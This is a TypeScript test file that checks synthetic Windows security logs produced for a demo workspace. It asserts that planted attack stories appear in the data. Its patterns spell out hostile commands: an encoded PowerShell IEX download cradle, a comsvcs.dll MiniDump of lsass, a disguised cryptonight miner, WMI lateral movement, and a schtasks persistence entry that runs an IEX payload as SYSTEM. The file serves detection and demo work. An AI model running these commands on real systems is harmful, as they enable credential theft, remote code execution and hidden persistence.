import { describe, expect, it } from 'vitest';
import type { SecurityEventRow, StoredSecurityAlert } from '../../../../src/core/rows.js';
import { generateDemoWorkspace } from '../../../../src/data/local/demo/generate-demo-workspace.js';
import { allRows, type Entity, findParent, processIndex, resolveEntities } from './demo-rows.js';

/** Text of a PowerShell `-enc` argument or registry payload: base64 of UTF-16LE. */
function decodeUtf16(base64: string): string {
  return Buffer.from(base64, 'base64').toString('utf16le');
}

function entitiesOf(alert: StoredSecurityAlert, type: string): Entity[] {
  return resolveEntities(alert.Entities ?? '[]').filter((e) => e.Type === type);
}

function imagePath(entity: Entity): string {
  const file = entity.ImageFile as Entity;
  return `${file.Directory}\\${file.Name}`;
}

describe.each([
  [1, 0],
  [2, 7],
  [3, 15],
  [4, 21],
])('demo stories (seed %i, ending at %i:23 UTC)', (seed, hour) => {
  const end = new Date(Date.UTC(2024, 5, 1, hour, 23));
  const workspace = generateDemoWorkspace({ events: 3_000, seed, end });
  const rows = allRows(workspace);
  const index = processIndex(rows);
  const processes = rows.filter((r) => r.EventID === 4688);
  const onHost = (fqdn: string) => rows.filter((r) => r.Computer === fqdn);

  it('names one story per alert, with 8 attack alerts and 3 benign low/informational ones', () => {
    expect(workspace.stories.map((s) => s.alertId)).toEqual(
      expect.arrayContaining(workspace.alerts.map((a) => a.SystemAlertId)),
    );
    expect(workspace.alerts).toHaveLength(11);
    const benign = workspace.stories.filter((s) => s.name.startsWith('benign/'));
    const severityOf = new Map(workspace.alerts.map((a) => [a.SystemAlertId, a.AlertSeverity]));
    expect(benign.map((s) => severityOf.get(s.alertId)).every((s) => s === 'Low' || s === 'Informational')).toBe(true);
    expect(new Set(workspace.alerts.map((a) => a.AlertSeverity))).toEqual(
      new Set(['High', 'Medium', 'Low', 'Informational']),
    );
    for (const alert of workspace.alerts)
      expect(alert.SystemAlertId).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
  });

  it('points every alert host at the events (HostName.DnsDomain = Computer)', () => {
    for (const alert of workspace.alerts) {
      const [host] = entitiesOf(alert, 'host');
      const fqdn = `${host?.HostName}.${host?.DnsDomain}`;
      expect(rows.some((r) => r.Computer === fqdn)).toBe(true);
      expect(alert.CompromisedEntity).toBe(host?.HostName);
      const story = workspace.stories.find((s) => s.alertId === alert.SystemAlertId);
      expect(story?.host).toBe(fqdn);
    }
  });

  it('resolves every process entity to its 4688: PID, image, command line, session, parent', () => {
    let suspicious = 0;
    for (const alert of workspace.alerts) {
      const [host] = entitiesOf(alert, 'host');
      const fqdn = `${host?.HostName}.${host?.DnsDomain}`;
      for (const process of entitiesOf(alert, 'process')) {
        const event = processes.find(
          (r) =>
            r.Computer === fqdn &&
            r.NewProcessId === process.ProcessId &&
            r.NewProcessName?.toLowerCase() === imagePath(process),
        );
        expect(event, `${alert.DisplayName}: ${process.ProcessId}`).toBeDefined();
        const row = event as SecurityEventRow;
        expect(row.CommandLine).toBe(process.CommandLine);
        expect(row.TimeGenerated.toISOString().replace('Z', '0000Z')).toBe(process.CreationTimeUtc);
        const parent = process.ParentProcess as Entity | undefined;
        if (!parent) continue;
        suspicious++;
        const account = process.Account as Entity;
        expect(row.SubjectLogonId).toBe(account.LogonId);
        expect(row.SubjectUserSid).toBe(account.Sid);
        expect(row.ProcessId).toBe(parent.ProcessId);
        expect(row.ParentProcessName?.toLowerCase()).toBe(imagePath(parent));
        expect(findParent(index, row)?.NewProcessName?.toLowerCase()).toBe(imagePath(parent));
        const props = JSON.parse(alert.ExtendedProperties ?? '{}') as Record<string, string>;
        expect(props['Suspicious Process Id']).toBe(row.NewProcessId);
        expect(props['Suspicious Command Line']).toBe(row.CommandLine);
        expect(props['Account Session Id']).toBe(row.SubjectLogonId);
        expect(alert.StartTime?.getTime()).toBe(row.TimeGenerated.getTime());
      }
    }
    expect(suspicious).toBe(workspace.alerts.length - 1);
  });

  it('resolves every logon session, account and address to the host’s logons', () => {
    const checked = { sessions: 0, ips: 0, urls: 0 };
    for (const alert of workspace.alerts) {
      const [host] = entitiesOf(alert, 'host');
      const events = onHost(`${host?.HostName}.${host?.DnsDomain}`);
      for (const session of entitiesOf(alert, 'host-logon-session')) {
        const account = session.Account as Entity;
        expect(account.LogonId).toBe(session.SessionId);
        if (session.SessionId === '0x3e7') continue;
        checked.sessions++;
        const logon = events.find((r) => r.EventID === 4624 && r.TargetLogonId === session.SessionId);
        expect(logon, `${alert.DisplayName}: session ${session.SessionId}`).toBeDefined();
        expect(logon?.TargetUserSid).toBe(account.Sid);
        expect(logon?.TargetUserName).toBe(account.Name);
        expect(logon?.TimeGenerated.getTime()).toBeLessThanOrEqual(alert.EndTime?.getTime() ?? 0);
      }
      for (const ip of entitiesOf(alert, 'ip')) {
        checked.ips++;
        expect(
          events.some((r) => r.EventID !== 4688 && r.IpAddress === ip.Address),
          `${alert.DisplayName}: ${ip.Address}`,
        ).toBe(true);
      }
      for (const url of entitiesOf(alert, 'url')) {
        checked.urls++;
        const decoded = events
          .filter((r) => r.EventID === 4688)
          .flatMap((r) => (r.CommandLine?.match(/[A-Za-z0-9+/]{40,}={0,2}/g) ?? []).map(decodeUtf16));
        expect(decoded.some((text) => text.includes(String(url.Url)))).toBe(true);
      }
      expect(alert.TimeGenerated.getTime()).toBeGreaterThanOrEqual(alert.EndTime?.getTime() ?? Number.NaN);
      expect(alert.EndTime?.getTime()).toBeGreaterThanOrEqual(alert.StartTime?.getTime() ?? Number.NaN);
    }
    expect(checked).toEqual({ sessions: 9, ips: 4, urls: 2 });
  });

  it('plants the masquerading miner: suchost.exe from c:\\w!ndows, started repeatedly by one cmd.exe', () => {
    const runs = processes.filter((r) => r.NewProcessName === 'C:\\w!ndows\\system32\\suchost.exe');
    expect(runs.length).toBeGreaterThanOrEqual(4);
    expect(new Set(runs.map((r) => r.ProcessId)).size).toBe(1);
    expect(new Set(runs.map((r) => r.NewProcessId)).size).toBe(runs.length);
    for (const run of runs) {
      expect(run.CommandLine).toMatch(
        /^c:\\w!ndows\\system32\\suchost\.exe -a cryptonight -o stratum\+tcp:\/\/[\w.-]+:3333 -u 4\w{94} -p x/,
      );
      expect(run.ParentProcessName).toBe('C:\\Windows\\System32\\cmd.exe');
    }
  });

  it('plants encoded PowerShell under winword.exe → cmd.exe that decodes to a download cradle', () => {
    const ps = processes.find((r) => /powershell\.exe {2}-nop -w hidden -enc /.test(r.CommandLine ?? ''));
    const cmd = ps && findParent(index, ps);
    expect(cmd?.ParentProcessName).toMatch(/WINWORD\.EXE$/);
    const encoded = ps?.CommandLine?.split(' ').at(-1) ?? '';
    expect(decodeUtf16(encoded)).toMatch(
      /^IEX \(New-Object Net\.WebClient\)\.DownloadString\('http:\/\/[\w.-]+\/a\.ps1'\)$/,
    );
  });

  it('plants the lsass dump: tasklist, then comsvcs.dll MiniDump of lsass’s real PID', () => {
    const dump = processes.find((r) => r.CommandLine?.includes('comsvcs.dll, MiniDump'));
    expect(dump).toBeDefined();
    const pid = Number(/MiniDump (\d+) /.exec(dump?.CommandLine ?? '')?.[1]);
    const lsass = processes.find(
      (r) => r.Computer === dump?.Computer && r.NewProcessName === 'C:\\Windows\\System32\\lsass.exe',
    );
    expect(lsass?.NewProcessId).toBe(`0x${pid.toString(16)}`);
    const tasklist = processes.find(
      (r) => r.Computer === dump?.Computer && r.CommandLine?.includes('imagename eq lsass.exe'),
    );
    expect(tasklist?.TimeGenerated.getTime()).toBeLessThan(dump?.TimeGenerated.getTime() ?? 0);
    expect(tasklist?.SubjectLogonId).toBe(dump?.SubjectLogonId);
  });

  it('plants the spray: many 4625 from one address, then its 4624, then WMI processes in that session and on a second host', () => {
    const spray = workspace.stories.find((s) => s.name === 'password-spray');
    const failures = onHost(spray?.host ?? '').filter((r) => r.EventID === 4625 && r.LogonType === 3);
    const byIp = new Map<string, SecurityEventRow[]>();
    for (const f of failures) byIp.set(f.IpAddress ?? '', [...(byIp.get(f.IpAddress ?? '') ?? []), f]);
    const [ip, attempts] = [...byIp.entries()].sort((a, b) => b[1].length - a[1].length)[0] as [
      string,
      SecurityEventRow[],
    ];
    expect(attempts.length).toBeGreaterThan(40);
    expect(new Set(attempts.map((a) => a.TargetUserName)).size).toBeGreaterThan(15);
    expect(new Set(attempts.map((a) => a.SubStatus))).toEqual(new Set(['0xc000006a', '0xc0000064']));
    const success = rows.find((r) => r.EventID === 4624 && r.IpAddress === ip);
    expect(success?.LogonType).toBe(3);
    expect(success?.TimeGenerated.getTime()).toBeGreaterThan(
      Math.max(...attempts.map((a) => a.TimeGenerated.getTime())),
    );
    const wmiexec = processes.filter(
      (r) => r.TargetLogonId === success?.TargetLogonId && r.Computer === success?.Computer,
    );
    expect(wmiexec.every((r) => r.ParentProcessName?.endsWith('WmiPrvSE.exe') && r.SubjectLogonId === '0x3e4')).toBe(
      true,
    );
    expect(wmiexec.some((r) => r.CommandLine?.includes('\\\\127.0.0.1\\ADMIN$\\__'))).toBe(true);
    const lateral = rows.find(
      (r) =>
        r.EventID === 4624 &&
        r.Computer !== success?.Computer &&
        r.TargetUserName === success?.TargetUserName &&
        r.LogonType === 3 &&
        r.IpAddress?.startsWith('10.10.1.'),
    );
    expect(lateral).toBeDefined();
    expect(
      processes.some(
        (r) =>
          r.Computer === lateral?.Computer &&
          r.TargetLogonId === lateral?.TargetLogonId &&
          r.ParentProcessName?.endsWith('WmiPrvSE.exe'),
      ),
    ).toBe(true);
  });

  it('plants schtasks persistence and its runs as SYSTEM at later logons', () => {
    const create = processes.find(
      (r) => r.NewProcessName?.endsWith('schtasks.exe') && r.CommandLine?.includes('/sc onlogon /ru system'),
    );
    expect(create?.CommandLine).toContain('/tn "\\Microsoft\\Windows\\WindowsUpdate\\Updater"');
    const payload = processes.find((r) => r.Computer === create?.Computer && r.NewProcessName?.endsWith('reg.exe'));
    expect(decodeUtf16(payload?.CommandLine?.match(/\/d (\S+)/)?.[1] ?? '')).toMatch(
      /^IEX \(New-Object Net\.WebClient\)/,
    );
    const runs = processes.filter(
      (r) => r.Computer === create?.Computer && r.CommandLine?.startsWith('powershell -w hidden -c "IEX'),
    );
    expect(runs.length).toBeGreaterThanOrEqual(1);
    for (const run of runs) {
      expect(run).toMatchObject({
        SubjectLogonId: '0x3e7',
        SubjectUserSid: 'S-1-5-18',
        ParentProcessName: 'C:\\Windows\\System32\\svchost.exe',
      });
      expect(run.TimeGenerated.getTime()).toBeGreaterThan(create?.TimeGenerated.getTime() ?? 0);
      const logon = rows.find(
        (r) =>
          r.EventID === 4624 &&
          r.Computer === run.Computer &&
          r.LogonType === 2 &&
          r.TargetUserName === 'dkim' &&
          run.TimeGenerated.getTime() - r.TimeGenerated.getTime() < 60_000 &&
          run.TimeGenerated >= r.TimeGenerated,
      );
      expect(logon).toBeDefined();
    }
  });
});
